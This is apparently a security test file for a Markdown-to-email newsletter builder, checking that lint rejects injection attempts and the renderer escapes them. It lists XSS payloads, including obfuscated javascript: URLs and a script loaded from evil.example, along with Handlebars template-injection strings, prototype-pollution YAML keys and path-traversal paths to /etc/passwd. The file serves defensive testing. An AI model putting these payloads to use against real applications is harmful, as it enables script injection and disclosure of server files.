import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loadIssueSource } from '../../src/issue/load.js';
import { rules } from '../../src/lint/rules/index.js';
import { renderIssue } from '../../src/render/index.js';
import type { Template } from '../../src/template/model.js';
import { ISSUE_042, makeProject } from '../helpers.js';
import { inProcessBuilder, treeSnapshot } from './support.js';

/**
 * SPEC §7, one test per injection vector. Each is checked twice: lint refuses it with a
 * located diagnostic (so `pvd build` publishes nothing), and — with every lint rule
 * switched off in template.yaml, which a team may do — the renderer still emits nothing
 * that runs: the escaping in render/ is the last line of defence.
 */
const ORIGINAL = readFileSync(ISSUE_042, 'utf8');
/** The payload is appended to the last section (« Voir aussi »), on this line. */
const PAYLOAD_LINE = ORIGINAL.replace(/\n*$/, '').split('\n').length + 2;
const withPayload = (payload: string): string => `${ORIGINAL.replace(/\n*$/, '')}\n\n${payload}\n`;

let root: string;
let builder: ReturnType<typeof inProcessBuilder>;
let issuePath: string;
/** The same template with every lint rule off: what reaches the renderer unchecked. */
let permissive: Template;

beforeAll(() => {
  root = makeProject();
  builder = inProcessBuilder(root);
  issuePath = join(root, 'issues', '042', 'issue.md');
  permissive = { ...builder.template, config: { ...builder.template.config, rules: Object.fromEntries(rules.map((rule) => [rule.id, 'off' as const])) } };
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

async function buildSource(source: string) {
  writeFileSync(issuePath, source);
  const before = treeSnapshot(builder.outDir);
  const result = await builder.build(issuePath);
  return { result, outUnchanged: treeSnapshot(builder.outDir) === before };
}

/** Renders with no lint at all: parse → render. */
function renderUnchecked(source: string) {
  writeFileSync(issuePath, source);
  const { issue } = loadIssueSource(source, { path: issuePath, folder: dirname(issuePath), file: issuePath }, permissive);
  expect(issue?.frontMatter).toBeDefined();
  return renderIssue(issue!, issue!.frontMatter!, permissive, 'generic');
}

/** Elements, event-handler attributes and URLs that would run code, found by a real HTML parser. */
function activeContent(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'base', 'meta'].includes(name) && !(name === 'meta' && !('http-equiv' in attributes && /refresh/i.test(attributes['http-equiv']!)))) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on/i.test(attribute)) found.push(`${attribute}= on <${name}>`);
        const compact = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
        if (/^(javascript|vbscript|data|file):/.test(compact)) found.push(`${attribute}="${value}" on <${name}>`);
      }
    },
  }, { decodeEntities: true });
  parser.write(html);
  parser.end();
  return found;
}

/** The readable text of an HTML document and its alt texts (entities decoded), to find content shown as text. */
function visibleText(html: string): string {
  let text = '';
  const parser = new Parser({
    ontext(chunk) { text += chunk; },
    onopentag(_name, attributes) { if (attributes.alt) text += ` ${attributes.alt} `; },
  }, { decodeEntities: true });
  parser.write(html);
  parser.end();
  return text;
}

function expectRefusedAt(result: Awaited<ReturnType<typeof buildSource>>, line: number, ruleIds: readonly string[], lastLine = line) {
  expect(result.result.output, 'the build must refuse').toBeUndefined();
  expect(result.outUnchanged, 'a refused build leaves out/ untouched').toBe(true);
  const located = result.result.diagnostics.filter((diagnostic) => diagnostic.severity === 'error' && diagnostic.line >= line && diagnostic.line <= lastLine);
  expect(located.map((diagnostic) => diagnostic.rule), JSON.stringify(result.result.diagnostics.map((d) => `${d.line}:${d.column} ${d.rule}`))).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(`^(${ruleIds.join('|')})$`))]));
}

describe('raw HTML: <script>, event handlers and other active elements', () => {
  const vectors = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    'Texte <script>alert(1)</script> dans un paragraphe.',
    '<img src=x onerror=alert(1)>',
    'Un <img src="x" onerror="alert(1)"> au milieu.',
    '<a href="https://exemple.fr" onclick="alert(1)">lien</a>',
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<body onload=alert(1)>',
    '<style>@import "https://evil.example/x.css";</style>',
  ];
  test.each(vectors)('%s is refused by lint, located', async (payload) => {
    expectRefusedAt(await buildSource(withPayload(payload)), PAYLOAD_LINE, ['raw-html']);
  });
  test.each(vectors)('%s is escaped as text when lint is off', (payload) => {
    const { html, text } = renderUnchecked(withPayload(payload));
    expect(activeContent(html)).toEqual([]);
    expect(html).not.toMatch(/<script/i);
    // Escaped as text (inline) or left out (a block): never markup. Plaintext is not markup.
    expect(typeof text).toBe('string');
  });
});

describe('javascript:, data:, vbscript: URLs — any case, entities, whitespace', () => {
  const schemes = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#x09;script:alert(1)',
    'java&#9;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
    'javascript&colon;alert(1)',
    '<javascript:alert(1)>',
    '<  javascript:alert(1)>',
    'jav&#x0A;ascript:alert(1)',
    '%20javascript:alert(1)',
    '   javascript:alert(1)',
    '\tJaVaScRiPt:alert(1)',
    'java\u200bscript:alert(1)',
    '&#x20;javascript:alert(1)',
    '&#xFEFF;javascript:alert(1)',
    'vbscript:msgbox(1)',
    'VBScript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
    'file:///etc/passwd',
  ];
  const contexts: Record<string, (url: string) => string> = {
    'a link in a sentence': (url) => `Voir [ce lien](${url}) pour en savoir plus.`,
    'a button': (url) => `[S'inscrire](${url})`,
    'a reference link': (url) => `Voir [ce lien][x].\n\n[x]: ${url.startsWith('<') ? url : `<${url}>`}`,
    'an image': (url) => `![Photo](${url} "© ANCT")`,
    'a link-wrapped image': (url) => `[![Photo](images/toul.jpg "© ANCT")](${url})`,
  };
  const cases = Object.entries(contexts).flatMap(([context, make]) => schemes.map((url) => [context, url, make(url)] as const));

  test.each(cases)('in %s, %s is refused by lint, located', async (_context, _url, payload) => {
    const built = await buildSource(withPayload(payload));
    // A URL a parser does not read as a link (spaces inside <…>) stays text: nothing to refuse.
    if (built.result.output) {
      expect(activeContent(built.result.output.html)).toEqual([]);
      return;
    }
    expectRefusedAt(built, PAYLOAD_LINE, ['link-scheme', 'image-outside', 'image-missing', 'raw-html', 'links'], PAYLOAD_LINE + payload.split('\n').length - 1);
  });

  test.each(cases)('in %s, %s never reaches the HTML or the text when lint is off', (_context, _url, payload) => {
    const { html, text } = renderUnchecked(withPayload(payload));
    expect(activeContent(html)).toEqual([]);
    for (const line of text.split('\n')) {
      const compact = line.replace(/[\u0000-\u0020\u007f-\u009f\ufeff]/g, '').toLowerCase();
      // A link's address is written as (url); a dangerous one must not be.
      expect(compact).not.toMatch(/\((javascript|vbscript|data|file):/);
    }
  });
});

describe('Handlebars syntax in content is text, in HTML and in plaintext', () => {
  const vectors = [
    '{{> footer}}',
    '{{> layout}}',
    '{{#each sections}}BOUCLE{{/each}}',
    '{{constructor.constructor "return process"}}',
    "{{constructor.constructor('alert(1)')()}}",
    '{{{css}}}',
    '{{lookup this "constructor"}}',
    '{{#with "x" as |y|}}{{y}}{{/with}}',
    '{{!-- commentaire --}}',
    '\\{{escaped}}',
  ];
  const places: Record<string, (payload: string) => string> = {
    paragraph: (payload) => withPayload(`Texte ${payload} fin.`),
    'item title': (payload) => withPayload(`### Titre ${payload}\n\nTexte de l'article.`),
    'link label': (payload) => withPayload(`Voir [${payload}](https://agence-cohesion-territoires.gouv.fr/).`),
    'image alt': (payload) => withPayload(`![Photo ${payload}](images/toul.jpg "© ANCT")`),
    subject: (payload) => ORIGINAL.replace(/^subject: .*$/m, `subject: ${JSON.stringify(`Objet ${payload}`)}`),
  };
  const cases = Object.entries(places).flatMap(([place, make]) => vectors.map((payload) => [place, payload, make(payload)] as const));

  test.each(cases)('in the %s, %s is shown as typed', async (_place, payload, source) => {
    const built = await buildSource(source);
    // lint only warns about template syntax ({{ is a merge tag for some tools): the build goes on.
    expect(built.result.output, JSON.stringify(built.result.diagnostics.filter((d) => d.severity === 'error').map((d) => `${d.line} ${d.rule}`))).toBeDefined();
    const { html, text } = built.result.output!;
    const literal = payload.replace(/^\\/, '');
    expect(visibleText(html).replace(/\u00a0/g, ' ')).toContain(literal);
    // The subject is the email's, not part of the plaintext body.
    if (_place !== 'subject') expect(text.replace(/\u00a0/g, ' ').replace(/\n/g, ' ')).toContain(literal);
    // Not evaluated: the footer and the loops of the template appear once, as without the payload.
    expect(visibleText(html)).not.toContain('BOUCLEBOUCLE');
    expect(html.match(/<!doctype html>/gi)).toHaveLength(1);
    expect(activeContent(html)).toEqual([]);
  });
});

describe('prototype keys in the front matter', () => {
  const frontMatters = {
    __proto__: '__proto__:\n  polluted: 1',
    'quoted __proto__': '"__proto__":\n  polluted: 1',
    'flow __proto__': '__proto__: { polluted: 1 }',
    constructor: 'constructor:\n  prototype:\n    polluted: 1',
    prototype: 'prototype:\n  polluted: 1',
    'nested __proto__': 'credits:\n  - __proto__:\n      polluted: 1',
    'merge key': '<<: { polluted: 1 }',
    'anchored __proto__': 'x: &a { polluted: 1 }\n__proto__: *a',
  };
  test.each(Object.entries(frontMatters))('%s pollutes nothing and is reported at its line', async (_name, yaml) => {
    const source = ORIGINAL.replace(/^credits:[\s\S]*?\n---\n/m, `${yaml}\n---\n`).replace(/^---\n/, '---\n');
    const keyLine = source.split('\n').findIndex((line) => line === yaml.split('\n')[0]) + 1;
    expect(keyLine).toBeGreaterThan(1);
    const { result } = await buildSource(source);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.create(null).polluted).toBeUndefined();
    expect(result.output).toBeUndefined();
    expect(result.diagnostics.some((diagnostic) => diagnostic.severity === 'error' && diagnostic.line >= 2 && diagnostic.line <= keyLine + 2)).toBe(true);
    const { issue } = loadIssueSource(source, { path: issuePath, folder: dirname(issuePath), file: issuePath }, builder.template);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(issue!.data)).toBeNull();
  });
});

describe('image paths leaving the issue folder', () => {
  const secret = 'SECRET-OUTSIDE-THE-ISSUE';
  beforeAll(() => {
    writeFileSync(join(root, 'secret.jpg'), secret);
    writeFileSync(join(root, 'issues', 'secret.jpg'), secret);
    symlinkSync(join(root, 'secret.jpg'), join(root, 'issues', '042', 'images', 'lien.jpg'));
    symlinkSync('/etc', join(root, 'issues', '042', 'images', 'etc'));
    mkdirSync(join(root, 'issues', '042', 'images', 'sous-dossier'), { recursive: true });
    symlinkSync('../../../secret.jpg', join(root, 'issues', '042', 'images', 'sous-dossier', 'relatif.jpg'));
  });
  const paths = [
    '../secret.jpg',
    '../../secret.jpg',
    'images/../../secret.jpg',
    '../../../../../../etc/passwd',
    '/etc/passwd',
    '%2e%2e/secret.jpg',
    '%2E%2E%2F%2E%2E%2Fsecret.jpg',
    '..%2f..%2fsecret.jpg',
    '..\\..\\secret.jpg',
    'C:\\Windows\\win.ini',
    '\\\\serveur\\partage\\x.jpg',
    'file:///etc/passwd',
    'images/lien.jpg',
    'images/etc/passwd',
    'images/sous-dossier/relatif.jpg',
    'images/x.jpg%00.png',
  ];
  test.each(paths)('![…](%s) is refused, located, and nothing outside is copied', async (path) => {
    const payload = `![Photo](<${path}> "© ANCT")`;
    const built = await buildSource(withPayload(payload));
    expectRefusedAt(built, PAYLOAD_LINE, ['image-outside', 'image-missing', 'link-scheme']);
  });
  test.each(paths)('![…](%s) is neither copied nor linked when lint is off', async (path) => {
    writeFileSync(issuePath, withPayload(`![Photo](<${path}> "© ANCT")`));
    const result = await inProcessBuilder(root, () => permissive).build(issuePath).catch((error: unknown) => ({ error }));
    // With lint off the build may go on; it must not publish anything from outside.
    if ('error' in result) throw result.error;
    const published = result.output?.files ?? [];
    for (const file of published) {
      // A copied file must come from the issue's folder or the template's, nowhere else.
      if ('source' in file) expect(file.source.startsWith(join(root, 'issues', '042')) || file.source.startsWith(join(root, 'templates'))).toBe(true);
      const bytes = 'content' in file ? Buffer.from(file.content) : readFileSync(file.source);
      expect(bytes.toString('latin1')).not.toContain(secret);
      expect(bytes.toString('latin1')).not.toContain('root:x:0:0');
    }
  });
});
